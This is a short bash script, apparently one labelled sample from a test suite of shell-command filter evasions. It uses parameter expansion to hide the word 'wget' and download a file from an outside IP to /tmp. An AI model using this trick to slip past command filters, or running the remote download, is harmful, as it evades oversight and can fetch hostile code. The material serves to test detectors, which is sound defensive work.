#!/usr/bin/env bash
# attack-class: 15
# title: ${v#x} prefix removal
# why: removing a prefix from xwget leaves wget

v=xwget
${v#x} -q http://203.0.113.3/a -O /tmp/a
